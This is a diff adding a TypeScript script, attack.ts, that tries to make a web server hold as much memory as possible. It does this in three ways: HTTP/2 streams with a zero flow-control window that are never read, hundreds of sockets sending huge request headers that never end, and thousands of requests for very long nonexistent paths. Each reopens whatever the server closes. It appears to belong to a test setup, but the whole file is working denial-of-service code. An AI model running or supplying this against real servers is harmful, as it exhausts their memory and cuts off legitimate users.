@@ -1,0 +1,67 @@
+/**
+ * One client that makes a server hold as much memory for it as it can; runs in a container of its own, so that its address
+ * is not the visitors'. Says `held` once it holds all, and goes on until it is stopped: what the server closes it opens again.
+ *   node attack.ts HOST PICTURE KIND...
+ */
+import { once } from 'node:events';
+import http2 from 'node:http2';
+import https from 'node:https';
+import net from 'node:net';
+import { setTimeout as delay } from 'node:timers/promises';
+
+const [host = '', picture = '', ...kinds] = process.argv.slice(2);
+
+/** Streams whose answers it never takes: the window for them is empty and stays so. */
+async function unreadStreams(connections = 6, streams = 128) {
+  for (let connection = 0; connection < connections; connection += 1) {
+    const session = http2.connect(`https://${host}:8443`, {
+      settings: { initialWindowSize: 0 },
+      rejectUnauthorized: false,
+    });
+    session.on('error', () => undefined);
+    await once(session, 'remoteSettings');
+    const open = () => {
+      if (session.destroyed) return;
+      session
+        .request({ ':path': picture })
+        .on('error', () => undefined)
+        .on('close', open);
+    };
+    for (let stream = 0; stream < streams; stream += 1) open();
+  }
+}
+
+/** Heads of requests that never end: 62 KB each, and where that is refused as much as is taken. */
+async function endlessHeads(connections = 800) {
+  const open = (size: number) => {
+    const socket = net.connect({ host, port: 8080 }).on('error', () => undefined);
+    const lines = Array.from({ length: 4 }, (_, line) => `X-${line}: ${'x'.repeat(size / 4)}\r\n`);
+    socket.write(`GET / HTTP/1.1\r\nHost: ${host}\r\n${lines.join('')}`);
+    socket.resume().on('close', () => setTimeout(open, 100, 7600));
+  };
+  for (let connection = 0; connection < connections; connection += 1) {
+    open(62_000);
+    if (connection % 50 === 49) await delay(50);
+  }
+}
+
+/** Long names of files that do not exist, each of them once. */
+async function longNames(names = 2500, length = 15_000) {
+  const agent = new https.Agent({ keepAlive: true, maxSockets: 8, rejectUnauthorized: false });
+  const ask = (name: number, size: number) =>
+    new Promise<number>((resolve) => {
+      https
+        .get({ host, port: 8443, path: `/${name}-`.padEnd(size, 'x'), agent }, (response) => {
+          response.resume().on('close', () => resolve(response.statusCode ?? 0));
+        })
+        .on('error', () => resolve(0));
+    });
+  const taken = (await ask(0, length)) === 200 ? length : 7600;
+  await Promise.all(Array.from({ length: names }, (_, name) => ask(name + 1, taken)));
+}
+
+const attacks = { unreadStreams, endlessHeads, longNames };
+for (const [name, attack] of Object.entries(attacks)) if (kinds.includes(name)) await attack();
+await delay(1000);
+console.log('held');
+setInterval(() => undefined, 1000);
